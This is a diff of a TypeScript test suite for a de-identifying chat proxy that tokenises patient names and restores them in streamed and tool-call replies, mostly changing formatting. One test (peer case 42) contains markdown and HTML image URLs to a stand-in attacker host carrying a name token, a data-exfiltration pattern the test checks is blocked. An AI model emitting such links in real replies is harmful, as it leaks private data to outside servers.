@@ -1,5 +1,6 @@
-import { assemble, chunk, chunksOf, completion, dataOf, DONE, echo, frame, pieces, streamOf } from '../support/chat-wire';
+import { assemble, chunk, chunksOf, completion, DONE, dataOf, echo, frame, pieces, streamOf } from '../support/chat-wire';
 import { cutBytes, type FakeUpstream, jsonReply, type ReplyStep, startFakeUpstream, streamReply } from '../support/fake-upstream';
+import { withoutReceipt } from '../support/receipt';
 import { startWholeProxy, type WholeProxy } from '../support/whole-proxy';
 
 /** What proxies of this kind get wrong in the reply; the numbers are those of the list of known failures, 1 to 50. */
@@ -29,7 +30,7 @@ async function answer(reply: string, body: object = ASK): Promise<string> {
 
 async function stream(steps: readonly ReplyStep[], body: object = STREAM): Promise<string> {
   upstream.script(streamReply(...steps));
-  return (await proxy.chat(body)).text();
+  return withoutReceipt(await (await proxy.chat(body)).text());
 }
 
 test('peer case 1: two patients in two messages get two tokens, each restored to its own name, every time', async () => {
@@ -66,8 +67,19 @@ test('peer case 4: frames over two packets, CRLF, comments, no blank behind the 
 });
 
 test('peer case 5: two choices, interleaved, each cut inside a token', async () => {
-  const parts: [number, string][] = [[0, 'A [NA'], [1, '[NAM'], [0, 'ME_1'], [1, 'E_1] B'], [0, ']']];
-  const frames = [...parts.map(([index, content]) => chunk({ content }, null, index)), chunk({}, 'stop', 0), chunk({}, 'stop', 1), DONE];
+  const parts: [number, string][] = [
+    [0, 'A [NA'],
+    [1, '[NAM'],
+    [0, 'ME_1'],
+    [1, 'E_1] B'],
+    [0, ']'],
+  ];
+  const frames = [
+    ...parts.map(([index, content]) => chunk({ content }, null, index)),
+    chunk({}, 'stop', 0),
+    chunk({}, 'stop', 1),
+    DONE,
+  ];
   const choices = assemble(await stream(frames, { ...STREAM, n: 2 }));
   expect(choices.map(({ content }) => content)).toEqual([`A ${PATIENT}`, `${PATIENT} B`]);
 });
@@ -91,14 +103,17 @@ test('peer case 6: held text comes out before finish_reason and before [DONE], i
   expect(dataOf(withoutReason).at(-1)).toBe('[DONE]');
 });
 
-test.each(['[NAM', '[NAME_', '[NAME_1', 'NAME_1'])('peer case 7: an answer cut off inside a token (%s) keeps the fragment', async (fragment) => {
-  const frames = [chunk({ content: `Dear ${fragment}` }), chunk({}, 'length'), DONE];
-  expect(assemble(await stream(frames))).toEqual([{ content: `Dear ${fragment}`, finish_reason: 'length' }]);
-  const whole = completion(`Dear ${fragment}`);
-  const choices = (whole['choices'] as object[]).map((choice) => ({ ...choice, finish_reason: 'length' }));
-  upstream.script(jsonReply({ ...whole, choices }));
-  expect(await (await proxy.chat(ASK)).json()).toMatchObject({ content: `Dear ${fragment}` });
-});
+test.each(['[NAM', '[NAME_', '[NAME_1', 'NAME_1'])(
+  'peer case 7: an answer cut off inside a token (%s) keeps the fragment',
+  async (fragment) => {
+    const frames = [chunk({ content: `Dear ${fragment}` }), chunk({}, 'length'), DONE];
+    expect(assemble(await stream(frames))).toEqual([{ content: `Dear ${fragment}`, finish_reason: 'length' }]);
+    const whole = completion(`Dear ${fragment}`);
+    const choices = (whole['choices'] as object[]).map((choice) => ({ ...choice, finish_reason: 'length' }));
+    upstream.script(jsonReply({ ...whole, choices }));
+    expect(await (await proxy.chat(ASK)).json()).toMatchObject({ content: `Dear ${fragment}` });
+  },
+);
 
 test('peer case 8: upstream breaks off inside a token: an error comes last, nothing of the name', async () => {
   const text = await stream([chunk({ content: 'Dear [NAME_1' }), { delayMs: 20 }, 'break']);
@@ -109,8 +124,12 @@ test('peer case 8: upstream breaks off inside a token: an error comes last, noth
 test('peer case 9: tool arguments, streamed character by character, parse to the exact original', async () => {
   const patient = 'Ana "Nan" O\'Neil';
   const body = { ...ask(`Patient: ${patient}\nBook a visit.`), stream: true };
-  const parts = pieces('{"name":"[NAME_1]"}', 1).map((text) => chunk({ tool_calls: [{ index: 0, function: { arguments: text } }] }));
-  const opening = chunk({ tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'book', arguments: '' } }] });
+  const parts = pieces('{"name":"[NAME_1]"}', 1).map((text) =>
+    chunk({ tool_calls: [{ index: 0, function: { arguments: text } }] }),
+  );
+  const opening = chunk({
+    tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'book', arguments: '' } }],
+  });
   const [message] = assemble(await stream([opening, ...parts, chunk({}, 'tool_calls'), DONE], body));
   expect(upstream.requests[0]?.body).toContain('Patient: [NAME_1]\\nBook');
   expect(JSON.parse(message?.tool_calls?.[0]?.arguments ?? '')).toEqual({ name: patient });
@@ -146,12 +165,15 @@ test('peer case 14: an invented token stays as it is and is counted', async () =
   expect({ tokensUnknown, tokensRestored }).toEqual({ tokensUnknown: 2, tokensRestored: 0 });
 });
 
-test.each(["$& $1 O'Osei", 'Osei\u200B', '[NAME_2] Osei'])('peer case 16: an original with odd characters (%j) is put back literally, in one pass', async (tail) => {
-  const text = `Patient: Hannah ${tail}\nMother: Ngozi Okonkwo`;
-  upstream.script(echo());
-  expect(await (await proxy.chat(ask(text))).json()).toMatchObject({ content: text });
-  expect(assemble(await (await proxy.chat({ ...ask(text), stream: true })).text())[0]?.content).toBe(text);
-});
+test.each(["$& $1 O'Osei", 'Osei\u200B', '[NAME_2] Osei'])(
+  'peer case 16: an original with odd characters (%j) is put back literally, in one pass',
+  async (tail) => {
+    const text = `Patient: Hannah ${tail}\nMother: Ngozi Okonkwo`;
+    upstream.script(echo());
+    expect(await (await proxy.chat(ask(text))).json()).toMatchObject({ content: text });
+    expect(assemble(await (await proxy.chat({ ...ask(text), stream: true })).text())[0]?.content).toBe(text);
+  },
+);
 
 test('peer case 42: nothing is restored in the URL of an unlisted host', async () => {
   const text = '![x](https://evil.test/?q=[NAME_1]) <img src="//evil.test/[NAME_1]">';
@@ -162,8 +184,16 @@ test('peer case 42: nothing is restored in the URL of an unlisted host', async (
 test('peer case 47: two interleaved tool calls with quotes in their originals do not mix', async () => {
   const body = { ...ask('Patient: Ana "Nan" Ruiz\nMother: Eva "Vee" Stein'), stream: true };
   const call = (index: number, text: string) => chunk({ tool_calls: [{ index, function: { arguments: text } }] });
-  const texts: [number, string][] = [[0, '{"note":"[NA'], [1, '{"note":"['], [0, 'ME_1'], [1, 'NAME_2]"}'], [0, ']"}']];
-  const [message] = assemble(await stream([...texts.map(([index, text]) => call(index, text)), chunk({}, 'tool_calls'), DONE], body));
+  const texts: [number, string][] = [
+    [0, '{"note":"[NA'],
+    [1, '{"note":"['],
+    [0, 'ME_1'],
+    [1, 'NAME_2]"}'],
+    [0, ']"}'],
+  ];
+  const [message] = assemble(
+    await stream([...texts.map(([index, text]) => call(index, text)), chunk({}, 'tool_calls'), DONE], body),
+  );
   const notes = message?.tool_calls?.map((item) => (JSON.parse(item.arguments) as { note: string }).note);
   expect(notes).toEqual(['Ana "Nan" Ruiz', 'Eva "Vee" Stein']);
 });
